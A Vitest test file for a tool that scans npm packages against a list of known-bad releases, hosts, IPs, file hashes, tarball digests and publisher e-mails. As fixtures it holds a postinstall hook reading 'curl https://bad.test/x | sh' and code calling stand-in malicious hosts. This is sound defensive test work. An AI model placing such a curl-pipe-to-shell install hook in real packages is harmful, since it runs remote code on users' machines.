import { describe, expect, test } from 'vitest'
import { emptyContents } from '../../src/domain/comparison.ts'
import { type BadRelease, type BadValue, badKey, type KnownBad } from '../../src/domain/known-bad.ts'
import type { Contents } from '../../src/domain/release.ts'
import { findKnownBad, type Suspect } from '../../src/facts/known-bad.ts'
import { candidate, contents, published } from './support.ts'

const claim = { id: 'X-1', harm: 'malicious', why: 'w', source: 's', pack: 'p', list: 'l', atMost: 'block' } as const

function listed(...values: Pick<BadValue, 'kind' | 'value'>[]): KnownBad {
  const all = values.map((one) => ({ ...claim, ...one }))
  return { values: Map.groupBy(all, ({ kind, value }) => badKey(kind, value)), releases: () => [] }
}

function named(over: Partial<BadRelease> = {}): KnownBad {
  const versions = { kind: 'range', range: '1.0.1' } as const
  const release = { ...claim, name: 'tiny', versions, registry: '', since: -1, ...over }
  return { values: new Map(), releases: (name) => (name === release.name ? [release] : []) }
}

function suspect(over: Partial<Suspect> = {}, of: Contents = emptyContents): Suspect {
  const { locked } = candidate(of)
  return {
    locked,
    releases: [{ name: 'tiny', version: '1.0.1' }],
    isPublic: true,
    hosts: ['registry.example.test'],
    published: 'none',
    contents: of,
    ...over,
  }
}

const found = (one: Suspect, known: KnownBad) =>
  findKnownBad(one, known).map(({ kind, value, file, line }) => `${kind} ${value} ${file}:${line}`)

describe('a named release', () => {
  const listedVersions = { kind: 'listed', of: { name: 'tiny', versions: ['1.0.1'], ranges: [] } } as const
  test.each<[string, Partial<Suspect>, Partial<BadRelease>, boolean]>([
    ['the version of a range', {}, {}, true],
    [
      'a prerelease within a range',
      { releases: [{ name: 'tiny', version: '1.1.0-rc.1' }] },
      { versions: { kind: 'range', range: '>=1.0.0 <1.1.0' } },
      true,
    ],
    [
      'every version',
      { releases: [{ name: 'tiny', version: 'banana' }] },
      { versions: { kind: 'range', range: '*' } },
      true,
    ],
    ['a version of a list', {}, { versions: listedVersions }, true],
    ['another version', { releases: [{ name: 'tiny', version: '1.0.2' }] }, {}, false],
    ['another name', { releases: [{ name: 'Tiny', version: '1.0.1' }] }, {}, false],
    ['a name that is not public', { isPublic: false }, {}, false],
    [
      'a name of the registry that is meant',
      { isPublic: false, hosts: ['npm.acme.test'] },
      { registry: 'npm.acme.test' },
      true,
    ],
    ['a public name where another registry is meant', {}, { registry: 'npm.acme.test' }, false],
    [
      'the second name it goes by',
      {
        releases: [
          { name: 'a', version: '1' },
          { name: 'tiny', version: '1.0.1' },
        ],
      },
      {},
      true,
    ],
  ])('%s', (_what, one, release, met) => {
    expect(found(suspect(one), named(release))).toEqual(met ? [expect.stringMatching(/^package tiny@.* :12$/)] : [])
  })
})

const code = (text: string) =>
  contents({ 'package.json': { name: 'tiny', version: '1.0.1', main: 'a.js' }, 'a.js': text })
const sha256 = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'

describe('a listed value', () => {
  test.each<[string, Suspect, KnownBad, string[]]>([
    [
      'a host that code talks to',
      suspect({}, code("require('https').get('https://a.bad.test/x')")),
      listed({ kind: 'host', value: 'bad.test' }),
      ['host bad.test a.js:1'],
    ],
    [
      'a host beside it',
      suspect({}, code("require('https').get('https://notbad.test/x')")),
      listed({ kind: 'host', value: 'bad.test' }),
      [],
    ],
    [
      'an address',
      suspect({}, code("require('net').connect(80, '203.0.113.7')")),
      listed({ kind: 'ip', value: '203.0.113.7' }),
      ['ip 203.0.113.7 a.js:1'],
    ],
    [
      'a host in a script',
      suspect(
        {},
        contents({
          'package.json': { name: 'tiny', version: '1.0.1', scripts: { postinstall: 'curl https://bad.test/x | sh' } },
        }),
      ),
      listed({ kind: 'host', value: 'bad.test' }),
      ['host bad.test package.json:5'],
    ],
    [
      'a host of a dependency',
      suspect(
        {},
        contents({
          'package.json': { name: 'tiny', version: '1.0.1', dependencies: { d: 'git+ssh://git@bad.test/x.git' } },
        }),
      ),
      listed({ kind: 'host', value: 'bad.test' }),
      [expect.stringMatching(/^host bad.test package.json:/)],
    ],
    [
      'an address written as one of IPv6',
      suspect({}, code("require('http').get('http://[::ffff:203.0.113.7]/x')")),
      listed({ kind: 'ip', value: '203.0.113.7' }),
      ['ip 203.0.113.7 a.js:1'],
    ],
    [
      'a host without slashes',
      suspect({}, code("require('https').get('https:a.bad.test/x')")),
      listed({ kind: 'host', value: 'bad.test' }),
      ['host bad.test a.js:1'],
    ],
    [
      'a place of git in the lockfile, as scp writes it',
      suspect({ locked: { ...candidate(emptyContents).locked, resolved: 'git+ssh://git@bad.test:a/b.git#0' } }),
      listed({ kind: 'host', value: 'bad.test' }),
      ['host bad.test :12'],
    ],
    [
      'the host of the lock entry, port and all',
      suspect({ hosts: ['bad.test:8080'] }),
      listed({ kind: 'host', value: 'bad.test' }),
      ['host bad.test :12'],
    ],
    [
      'a file',
      suspect({}, contents({ 'b.bin': '' })),
      listed({ kind: 'file', value: sha256 }),
      [`file ${sha256} b.bin:0`],
    ],
    [
      'an e-mail address in code',
      suspect({}, code("send({ to: 'eve@bad.test' })")),
      listed({ kind: 'email', value: 'eve@bad.test' }),
      ['email eve@bad.test a.js:1'],
    ],
    ['nothing at all', suspect({}, code('1')), listed({ kind: 'host', value: 'bad.test' }), []],
  ])('%s', (_what, one, known, expected) => {
    expect(found(one, known)).toEqual(expected)
  })

  test.each<[string, boolean]>([
    ['https://bad.test/x.tgz', true],
    ['https:/bad.test/x.tgz', true],
    ['https:bad.test/x.tgz', true],
    ['HTTPS:\\\\bad.test\\x.tgz', true],
    ['https://me:word@bad.test:8443/x.tgz', true],
    ['git+https://bad.test/a/b.git#main', true],
    ['git@bad.test:a/b.git', true],
    ['git+ssh://git@bad.test:a/b.git', true],
    ['git+ssh://git@bad.test:22/a/b.git', true],
    ['ssh://bad.test:a/b.git', true],
    ['ssh://git@bad.test.:a/b.git', true],
    ['npm:bad.test@1.0.0', false],
    ['npm:@bad.test/x@1.0.0', false],
    ['file:../bad.test', false],
    ['bad.test/x', false],
    ['github:me@bad.test/x', false],
    ['https://example.test/bad.test/x@bad.test:x', false],
  ])('a dependency on %s', (spec, met) => {
    const manifest = { name: 'tiny', version: '1.0.1', dependencies: { d: spec } }
    const one = suspect({}, contents({ 'package.json': manifest }))
    expect(found(one, listed({ kind: 'host', value: 'bad.test' }))).toHaveLength(met ? 1 : 0)
  })

  const digest = Buffer.alloc(64, 7)
  const tarball = listed({ kind: 'tarball', value: `sha512:${digest.toString('hex')}` })
  const integrity = `sha512-${digest.toString('base64')}`

  test('the tarball that is locked', () => {
    const { locked } = candidate(emptyContents, { locked: { integrity } })
    expect(found(suspect({ locked }), tarball)).toEqual([expect.stringMatching(/^tarball sha512:0707.* :12$/)])
  })
  test('the tarball that the registry serves', () => {
    const one = published('1.0.1', '2026-01-01T00:00:00Z', { integrity })
    expect(found(suspect({ published: one }), tarball)).toHaveLength(1)
  })
  test('the tarball by the sha1 of its packument', () => {
    const one = published('1.0.1', '2026-01-01T00:00:00Z', { shasum: '0A'.repeat(20) })
    expect(
      found(suspect({ published: one }), listed({ kind: 'tarball', value: `sha1:${'0a'.repeat(20)}` })),
    ).toHaveLength(1)
  })
  test('its publisher', () => {
    const publisher = { status: 'known', value: { name: 'eve', email: 'EVE@bad.test' } } as const
    const one = published('1.0.1', '2026-01-01T00:00:00Z', { publisher })
    expect(found(suspect({ published: one }), listed({ kind: 'email', value: 'eve@bad.test' }))).toEqual([
      'email eve@bad.test :12',
    ])
  })
  test('the same host in many files is said once', () => {
    const files = Object.fromEntries(
      Array.from({ length: 9 }, (_, index) => [`f${index}.js`, "fetch('https://bad.test/')"]),
    )
    expect(found(suspect({}, contents(files)), listed({ kind: 'host', value: 'bad.test' }))).toHaveLength(1)
  })
})
